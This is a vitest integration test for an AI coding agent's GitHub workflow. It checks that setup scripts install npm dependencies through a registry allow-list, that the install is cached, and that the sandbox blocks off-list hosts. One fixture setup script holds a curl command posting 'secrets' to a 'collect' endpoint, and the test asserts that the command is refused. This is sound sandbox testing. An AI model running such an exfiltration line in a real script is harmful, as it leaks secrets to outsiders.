import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { LocalStack } from '../../local/stack.ts';
import { startCountingServer, type CountingServer } from '../support/counting-server.ts';
import type { GithubApiServer } from '../support/github-api-server.ts';
import { startGithubAppStack, type GithubAppStack } from '../support/github-app-stack.ts';
import { labeledPayload, makeBareRepo, sendDelivery, type RepoRef, finishedRun } from '../support/github-fixture.ts';
import { npmEnv, startNpmRegistry, type NpmRegistry } from '../support/npm-registry.ts';
import { bash, text } from '../support/stack-fixture.ts';
import { makeTempDir } from '../support/temp-dir.ts';

const SECRET = 'webhook-secret-for-tests';
const APP_ID = '4343';

/** A repository whose tests need an installed dependency: `total()` starts its sum at 1. */
function appFiles(registry: NpmRegistry, lockfile: string, setup: string): Record<string, string> {
  return {
    'package.json': JSON.stringify(
      { name: 'app', version: '1.0.0', private: true, scripts: { test: 'node test.js' }, dependencies: { 'tiny-sum': '1.0.0' } },
      null,
      2,
    ),
    'package-lock.json': lockfile,
    '.npmrc': registry.npmrc(),
    '.gitignore': 'node_modules/\n',
    '.stratus/setup.sh': setup,
    'total.js': "const sum = require('tiny-sum');\nmodule.exports = (xs) => xs.reduce((a, b) => sum(a, b), 1);\n",
    'test.js':
      "const total = require('./total.js');\nif (total([2, 3]) !== 5) { console.error('FAIL: total([2, 3]) =', total([2, 3])); process.exit(1); }\nconsole.log('tests pass');\n",
  };
}

/** The lockfile a developer would commit: made by the real npm against the registry. */
async function lockfileFor(registry: NpmRegistry, dir: string): Promise<string> {
  const work = mkdtempSync(path.join(os.tmpdir(), 'stratus-lock-'));
  writeFileSync(path.join(work, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', private: true, dependencies: { 'tiny-sum': '1.0.0' } }));
  writeFileSync(path.join(work, '.npmrc'), registry.npmrc());
  await promisify(execFile)('npm', ['install', '--package-lock-only'], { cwd: work, env: npmEnv(dir) });
  return readFileSync(path.join(work, 'package-lock.json'), 'utf8');
}

describe('set-up steps in a GitHub run (.stratus/setup.sh → npm ci through the allow-list → tests → pull request)', () => {
  const tmp = makeTempDir();
  const gitRoot = makeTempDir();
  const npmDir = makeTempDir();
  let stack: LocalStack;
  let gh: GithubApiServer;
  let git: GithubAppStack['git'];
  let close: GithubAppStack['close'] | undefined;
  let registry: NpmRegistry;
  let offList: CountingServer;
  let api: GithubAppStack['api'];
  let app: ReturnType<typeof makeBareRepo>;
  const repos: Record<string, RepoRef> = {};

  beforeAll(async () => {
    registry = await startNpmRegistry(npmDir.dir);
    // Two real packages, one depending on the other: npm ci resolves both from the lockfile.
    await registry.publish({ name: 'tiny-add', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = (a, b) => a + b;\n' });
    await registry.publish(
      { name: 'tiny-sum', version: '1.0.0', main: 'index.js', dependencies: { 'tiny-add': '1.0.0' } },
      { 'index.js': "module.exports = require('tiny-add');\n" },
    );
    const lockfile = await lockfileFor(registry, npmDir.dir);
    offList = await startCountingServer();
    ({ stack, gh, git, api, close } = await startGithubAppStack({
      dataDir: tmp.dir,
      gitRoot: gitRoot.dir,
      appId: APP_ID,
      webhookSecret: SECRET,
      installationId: 88,
      stack: {
        writeMetrics: () => undefined,
        // The operator lets sandboxes reach the loopback registry (STRATUS_PRIVATE_NETWORK_ALLOW) and
        // makes it the one set-up registry (STRATUS_SETUP_REGISTRIES), as the public ones are by default.
        settings: {
          model: {},
          turn: {},
          api: {},
          observability: {},
          outbound: { privateNetworkAllow: [registry.host] },
          setup: { registries: [registry.host] },
        },
      },
    }));
    app = makeBareRepo(gitRoot.dir, 'acme/app', appFiles(registry, lockfile, 'set -e\nnpm ci\n'));
    makeBareRepo(
      gitRoot.dir,
      'acme/leaky',
      appFiles(registry, lockfile, `set -e\nnpm ci\ncurl -sS --fail-with-body http://localhost:${offList.port}/collect?data=secrets\n`),
    );
    for (const [id, full] of [
      [2_001, 'acme/app'],
      [2_002, 'acme/leaky'],
    ] as const) {
      gh.addRepository({ id, fullName: full, installationId: 88 });
      gh.addIssue(full, 1, { title: 'total() is off by one', body: 'total([2, 3]) gives 6.', user: { login: 'reporter', type: 'User' } });
      repos[full] = { id, fullName: full, cloneUrl: `${git.url}/${full}.git`, installationId: 88 };
    }
    gh.permissions.set('maintainer', 'write');
    for (const full of Object.keys(repos)) expect((await api.request('POST', '/v1/github/repositories', { repository: full })).status).toBe(201);
  }, 60_000);

  afterAll(async () => {
    await close?.();
    await registry?.close();
    await offList?.close();
    for (const d of [tmp, gitRoot, npmDir]) d.cleanup();
  });

  const runFor = (deliveryId: string) => finishedRun(api, deliveryId, 90_000);

  async function eventsOf(sessionId: string) {
    const session = (await api.request('GET', `/v1/sessions/${sessionId}`)).json;
    const page = (await api.request('GET', `/v1/sessions/${sessionId}/turns/${session.lastTurn.turnId}/events`)).json;
    return { session, events: page.events.map((e: { event: { type: string } }) => e.event) };
  }

  it('installs the dependencies before the first turn; the agent runs the tests, fixes the code and opens the pull request', async () => {
    const tarballsBefore = registry.requests.filter((r) => r.includes('.tgz')).length;
    stack.model!.enqueue(
      // The agent's own commands reach no registry: the session allows no host.
      {
        content: [bash('t1', `npm test; echo "exit=$?"; curl -sS -m 5 ${registry.url}/tiny-sum >/dev/null && echo REACHED || echo NO-NETWORK`)],
        stopReason: 'tool_use',
      },
      { content: [bash('t2', "sed -i 's/, 1);/, 0);/' total.js && npm test")], stopReason: 'tool_use' },
      text('total() started its sum at 1; it starts at 0 now and `npm test` passes.'),
    );
    const sent = await sendDelivery(
      stack.apiUrl,
      SECRET,
      'issues',
      labeledPayload(repos['acme/app']!, { number: 1, title: 'total() is off by one' }, 'stratus', { login: 'maintainer' }),
    );
    const run = await runFor(sent.deliveryId);
    expect(run).toMatchObject({ outcome: 'pr_opened', repository: 'acme/app' });

    // npm ci fetched both tarballs from the registry, through the set-up's allow-list.
    const tarballs = registry.requests.filter((r) => r.includes('.tgz')).slice(tarballsBefore);
    expect(tarballs.map((r) => r.replace(/^GET /, ''))).toEqual(expect.arrayContaining(['/tiny-sum/-/tiny-sum-1.0.0.tgz', '/tiny-add/-/tiny-add-1.0.0.tgz']));
    const { session, events } = await eventsOf(run.sessionId);
    expect(session.setup).toMatchObject({ status: 'succeeded', source: 'repository_file', exitCode: 0, allowedDomains: [registry.host] });
    expect(session.setup.outputTail).toMatch(/added 2 packages/);
    const types = events.map((e: { type: string }) => e.type);
    expect(types.slice(0, 3)).toEqual(['turn_start', 'setup_start', 'setup_end']);
    expect(events[1]).toMatchObject({ command: 'bash .stratus/setup.sh', allowedDomains: [registry.host], timeoutSeconds: 600 });

    // The model heard of the set-up in its first prompt; with the dependencies installed, its first
    // run of the tests failed on the bug, not on a missing module, and it had no network of its own.
    const first = stack.model!.requests.find((r) => JSON.stringify(r.body).includes('total() is off by one'))!;
    const opening = JSON.stringify(first.body.messages[0]);
    expect(opening).toContain('The set-up steps of this workspace (.stratus/setup.sh) ran before this conversation: they succeeded in');
    const messages = await api.messages(run.sessionId);
    const results = messages.flatMap((m) => m.content).filter((b: { type: string }) => b.type === 'tool_result');
    const t1 = JSON.stringify(results.find((b: { tool_use_id: string }) => b.tool_use_id === 't1'));
    expect(t1).toContain('FAIL: total([2, 3]) = 6');
    expect(t1).not.toContain('Cannot find module');
    expect(t1).toContain('NO-NETWORK');
    expect(JSON.stringify(results.find((b: { tool_use_id: string }) => b.tool_use_id === 't2'))).toContain('tests pass');

    // The pull request has the fix and not node_modules; the comment names the set-up.
    expect(app.show(run.branch, 'total.js')).toContain(', 0);');
    expect(() => app.show(run.branch, 'node_modules/tiny-sum/index.js')).toThrow();
    const [comment] = gh.commentsOn('acme/app', 1);
    expect(comment!.body).toContain('🧰 Set-up steps (.stratus/setup.sh) succeeded in');
  }, 120_000);

  it('the next run on the repository restores the cached environment: the dependencies are there and the registry hears nothing', async () => {
    gh.addIssue('acme/app', 2, { title: 'Check the dependencies', body: 'b', user: { login: 'reporter', type: 'User' } });
    const requestsBefore = registry.requests.length;
    stack.model!.enqueue(
      { content: [bash('d1', "node -e \"require('tiny-sum'); console.log('deps-present')\"")], stopReason: 'tool_use' },
      text('The dependencies are installed; nothing to change.'),
    );
    const sent = await sendDelivery(
      stack.apiUrl,
      SECRET,
      'issues',
      labeledPayload(repos['acme/app']!, { number: 2, title: 'Check the dependencies' }, 'stratus', { login: 'maintainer' }),
    );
    const run = await runFor(sent.deliveryId);
    expect(run.outcome).toBe('no_changes');
    // A new session (a new issue), yet no npm ci: the layer the first run stored came back in one GET.
    expect(registry.requests.slice(requestsBefore)).toEqual([]);
    const { session } = await eventsOf(run.sessionId);
    expect(session.setup).toMatchObject({ status: 'succeeded', restored: true });
    const results = (await api.messages(run.sessionId)).flatMap((m) => m.content).filter((b: { type: string }) => b.type === 'tool_result');
    expect(JSON.stringify(results.find((b: { tool_use_id: string }) => b.tool_use_id === 'd1'))).toContain('deps-present');
    // The layer is not the agent's change: the workspace's files do not list node_modules.
    const files = (await api.request('GET', `/v1/sessions/${run.sessionId}/workspace/files`)).json.files.map((f: { path: string }) => f.path);
    expect(files.some((f: string) => f.startsWith('node_modules/'))).toBe(false);
  }, 120_000);

  it('a set-up step reaching a host off the list is refused; the failure reaches the model and the issue', async () => {
    stack.model!.enqueue(text('The set-up failed, so I changed nothing.'));
    const sent = await sendDelivery(
      stack.apiUrl,
      SECRET,
      'issues',
      labeledPayload(repos['acme/leaky']!, { number: 1, title: 'total() is off by one' }, 'stratus', { login: 'maintainer' }),
    );
    const run = await runFor(sent.deliveryId);
    expect(run.outcome).toBe('no_changes');

    // The off-list server never saw a connection; the proxy's refusal is in the set-up's output.
    expect(offList.seen.connections).toBe(0);
    const { session, events } = await eventsOf(run.sessionId);
    expect(session.setup).toMatchObject({ status: 'failed', source: 'repository_file', exitCode: 22 });
    expect(session.setup.outputTail).toContain(`Blocked by the sandbox: localhost is not in this session's allowed network domains.`);
    expect(events.find((e: { type: string }) => e.type === 'setup_end')).toMatchObject({ status: 'failed', exitCode: 22 });

    // The model's first message says the set-up failed, how, and what it printed.
    const first = stack.model!.requests.at(-1)!;
    const opening = JSON.stringify(first.body.messages[0]);
    expect(opening).toContain('did not succeed: they failed with exit code 22');
    expect(opening).toContain('Blocked by the sandbox');
    // The maintainer reads the same on the issue.
    const [comment] = gh.commentsOn('acme/leaky', 1);
    expect(comment!.body).toContain('⚠️ Set-up steps (.stratus/setup.sh) failed with exit code 22');
    expect(comment!.body).toContain('The model was told.');
    expect(comment!.body).toContain('Blocked by the sandbox');
  }, 120_000);
});
